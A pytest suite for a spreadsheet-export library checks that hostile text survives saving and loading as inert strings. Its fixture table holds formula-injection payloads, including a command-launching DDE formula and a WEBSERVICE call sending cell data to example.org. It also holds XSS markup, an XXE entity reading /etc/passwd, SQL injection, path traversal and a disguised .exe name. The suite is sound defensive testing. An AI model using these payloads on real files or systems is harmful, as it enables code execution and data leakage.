"""What strangers write in titles, names and addresses stays text in a sheet and back."""

import zipfile
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chatlib.collect.lists import load_channels, load_stream_list, merge_stream_list, save_stream_list
from chatlib.collect.sheets import Table, clean_cell, clean_line, load_tables, save_tables
from chatlib.errors import SourceError

# As somebody writes it, and as we keep it (None: the same).
HOSTILE = {
    "formula": ("=cmd|' /C calc'!A0", None),
    "formula of OpenDocument": ('of:=WEBSERVICE("http://example.org/"&A1)', None),
    "plus": ("+1+1", None),
    "minus": ("-2+3", None),
    "at": ("@SUM(A1:A9)", None),
    "tab and formula": ("\t=1+1", "=1+1"),
    "markup": ("<script>alert(1)</script><img src=x onerror=alert(1)>", None),
    "end of a cell": ("</text:p></table:table-cell><table:table-cell>", None),
    "end of data": ("]]><!-- --><?php ?>", None),
    "entities": ("&lt; &amp; &#0; &#x1F600; &xxe;", None),
    "declaration": ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', None),
    "quotes": ("'\"`´„“; DROP TABLE streams; --", None),
    "NUL": ("a\x00b", "ab"),
    "controls": ("a\x01\x08\x1b[31m\x7f\x9bb", "a[31mb"),
    "line breaks": ("a\r\nb\u2028c\x85d\x0be", "a b c d e"),
    "half of a pair": ("a\ud83d b", "a\ufffd b"),
    "no characters": ("a\ufffe\uffffb", "ab"),
    "last characters": ("\U0010ffff\U0001fffe\ufffd", "\ufffd"),
    "direction": ("\u202egnp.exe\u202c \u200f\u2066", None),
    "zalgo": ("e" + "\u0301" * 500, None),
    "invisible": ("\u200b\ufeff\u2060", None),
    "only blanks": (" \t\n\u3000 ", ""),
    "many blanks": ("a      b", None),
    "mathtext": ("$\\frac{1}{0}$ $5", None),
    "format": ("%s %(x)s {0} {x!r} %d%%", None),
    "path": ("../../../etc/passwd\\..\\x", None),
    "absence": ("NULL", None),
    "not a number": ("nan", None),
    "error": ("#N/A", None),
    "another error": ("#REF!", None),
    "truth": ("TRUE", None),
    "number": ("007", None),
    "large number": ("1e999", None),
    "date": ("2026-01-09", None),
    "emoji": ("👩‍👩‍👧‍👦 🏳️‍🌈 配信 عربى", None),
    "long": ("x" * 40_000, "x" * 31_999 + "…"),
    "long and blank": (" " * 50_000 + "x", "x"),
}
WRITTEN = [text for text, _ in HOSTILE.values()]
KEPT = [text if kept is None else kept or None for text, kept in HOSTILE.values()]
IDS = [f"video{i:06d}" for i in range(len(HOSTILE))]
ROWS = [
    {"video_id": video_id, "title": text, "reason": text, "channel_name": text, "date": f"20{i:02d}-01-01"}
    for i, (video_id, text) in enumerate(zip(IDS, WRITTEN, strict=True))
]


@pytest.fixture(scope="module")
def sheet(tmp_path_factory):
    """A list of streams with every hostile text in three columns, oldest first."""
    path = tmp_path_factory.mktemp("hostile") / "streams.ods"
    save_stream_list(path, ROWS)
    return path


@pytest.mark.parametrize("column", ["title", "reason", "channel_name"])
def test_a_sheet_gives_back_what_it_was_given(sheet, column):
    assert [row[column] for row in load_stream_list(sheet)] == KEPT


def test_written_again_it_is_the_same(sheet, tmp_path):
    rows = load_stream_list(sheet)
    for _ in range(2):
        rows = merge_stream_list(rows, rows)
        save_stream_list(tmp_path / "a.ods", rows)
        assert load_stream_list(tmp_path / "a.ods") == load_stream_list(sheet)


def test_the_file_is_xml_without_formula_or_element_of_a_stranger(sheet):
    with zipfile.ZipFile(sheet) as file:
        root = ElementTree.fromstring(file.read("content.xml"))
    names = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert names == {
        "document-content", "automatic-styles", "body", "spreadsheet", "table", "table-row",
        "table-cell", "p",
    }  # fmt: skip
    attributes = {name.rpartition("}")[2] for element in root.iter() for name in element.attrib}
    assert attributes == {"version", "name", "value-type", "string-value"}
    kinds = {
        value for element in root.iter() for name, value in element.attrib.items() if "value-type" in name
    }
    assert kinds == {"string"}


def test_a_column_may_have_any_name(tmp_path):
    names = [name for name in dict.fromkeys(KEPT) if name]
    path = tmp_path / "a.ods"
    save_stream_list(path, [{"video_id": IDS[0]} | {name: str(i) for i, name in enumerate(names)}])
    (row,) = load_stream_list(path)
    assert {name: row.get(name) for name in names} == {name: str(i) for i, name in enumerate(names)}


def test_other_sheets_may_have_any_name(tmp_path):
    names = [name for name in dict.fromkeys(KEPT) if name]
    save_tables(tmp_path / "a.ods", [Table(name, [["video_id", name], [IDS[0], 5]]) for name in names])
    save_stream_list(tmp_path / "a.ods", load_stream_list(tmp_path / "a.ods"))
    for name, table in zip(names, load_tables(tmp_path / "a.ods"), strict=True):
        assert table.name == name
        assert str(table.cells[0][-1]).strip() == name
        assert [table.cells[1][table.cells[0].index("video_id")], table.cells[1][-1]] == [IDS[0], 5]


@settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.lists(st.text(), min_size=1, max_size=30))
def test_any_text_is_one_line_and_stays_what_it_is(tmp_path, texts):
    path = tmp_path / "a.ods"
    save_tables(path, [Table("x", [["kept", text] for text in texts])])
    read = [clean_cell(row[1]) if len(row) > 1 else None for row in load_tables(path)[0].cells]
    assert read == [clean_cell(text) for text in texts]
    for text in texts:
        line = clean_line(text)
        assert line == clean_line(line) == line.strip()
        assert len(line.splitlines()) <= 1
        assert not any(ord(mark) < 32 for mark in line)
        line.encode("utf-8")


def test_a_spreadsheet_with_a_hostile_name_is_a_name_or_an_error(tmp_path):
    """A name is the user's own and may lead anywhere; what it can't do is end in another error than ours."""
    (tmp_path / "in" / "a" / "b").mkdir(parents=True)
    for text in filter(None, KEPT):
        sheet = tmp_path / "in" / "a" / "b" / "c.ods"
        save_tables(sheet, [Table("x", [["@ann", text.replace("etc", "in")]])])
        try:
            (channel,) = load_channels(sheet)
            assert channel.spreadsheet.is_absolute()
            assert channel.spreadsheet.is_relative_to(tmp_path)
            save_stream_list(channel.spreadsheet, ROWS[:1])
            assert [row["video_id"] for row in load_stream_list(channel.spreadsheet)] == IDS[:1]
        except SourceError as error:
            assert len(text.encode()) > 200, (text, error)
